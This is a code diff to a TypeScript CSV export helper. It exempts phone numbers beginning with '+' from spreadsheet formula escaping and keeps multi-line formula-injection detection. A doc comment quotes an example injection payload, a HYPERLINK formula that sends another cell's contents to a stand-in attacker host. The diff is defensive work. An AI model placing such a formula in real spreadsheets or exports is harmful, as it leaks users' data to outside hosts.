@@ -11,13 +11,24 @@ export interface CsvColumn<T> {
 export const UTF8_BOM = '\uFEFF';
 
 /**
- * A text cell a spreadsheet could run as a formula: one of whose lines starts with `=`, `+`, `-`,
- * `@`, a tab or a carriage return. Every line counts, not only the first: papaparse's own
- * `escapeFormulae: true` tests `/^[=+\-@\t\r].*$/`, whose `.` stops at a line break, so a value
- * like `=HYPERLINK("https://evil.example/?"&C2,\n"Eve")` (a customer's name, address or PO
- * number) passed unescaped (security report 2026-11-26, finding 5).
+ * A phone number as people write one: a `+`, then digits, spaces and `( ) - . /` only, with at
+ * least one digit (`+49 40 123456`, `+1 (555) 010-0100`). A spreadsheet cannot run it as a
+ * formula that does harm (no function, no reference, no second operator to chain one), so it is
+ * exported as written rather than with a visible `'` (usability review 2026-11-26, defect 16).
  */
-export const FORMULA_CELL = /(?:^|[\n\r])[=+\-@\t\r]/;
+export const PHONE_NUMBER = /^\+[\d ()./-]*\d[\d ()./-]*$/;
+
+/**
+ * A text cell a spreadsheet could run as a formula: one of whose lines starts with `=`, `+`, `-`,
+ * `@`, a tab or a carriage return, unless the whole cell is a phone number (`PHONE_NUMBER`).
+ * Every line counts, not only the first: papaparse's own `escapeFormulae: true` tests
+ * `/^[=+\-@\t\r].*$/`, whose `.` stops at a line break, so a value like
+ * `=HYPERLINK("https://evil.example/?"&C2,\n"Eve")` (a customer's name, address or PO number)
+ * passed unescaped (security report 2026-11-26, finding 5).
+ */
+export const FORMULA_CELL = new RegExp(
+  `^(?!${PHONE_NUMBER.source.slice(1, -1)}$)[\\s\\S]*?(?:^|[\\n\\r])[=+\\-@\\t\\r]`,
+);
 
 /**
  * A CSV file's text: the headings, then one line per row, with a BOM in front. Papaparse does the
